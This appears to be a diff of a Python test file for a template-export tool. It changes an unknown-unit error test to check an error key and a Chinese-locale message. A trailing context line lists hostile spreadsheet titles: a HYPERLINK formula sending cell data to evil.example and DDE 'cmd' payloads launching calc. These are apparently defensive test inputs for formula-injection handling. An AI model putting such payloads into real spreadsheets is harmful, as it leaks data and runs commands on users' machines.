@@ -88,8 +88,11 @@ def test_a_period_option_lists_that_period_even_before_it_starts(applied: Engine
 def test_one_unit_only_and_an_unknown_unit_is_refused(applied: Engine, tmp_path: Path) -> None:
     files = write_templates(applied, PLAN_ID, as_of=AS_OF, today=TODAY, out_dir=tmp_path / "one", unit="town-b")
     assert [f.unit for f in files] == ["town-b"]
-    with pytest.raises(TemplateError, match="计划“inbox-2018”中没有单位“town-z”"):
+    with pytest.raises(TemplateError) as caught:
         write_templates(applied, PLAN_ID, as_of=AS_OF, today=TODAY, out_dir=tmp_path / "x", unit="town-z")
+    # worded where the reader is known (the CLI, in the plan's locale)
+    assert caught.value.key == "template.unknown_unit"
+    assert caught.value.render("zh") == "计划“inbox-2018”中没有单位“town-z”"
 
 
 HOSTILE_TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
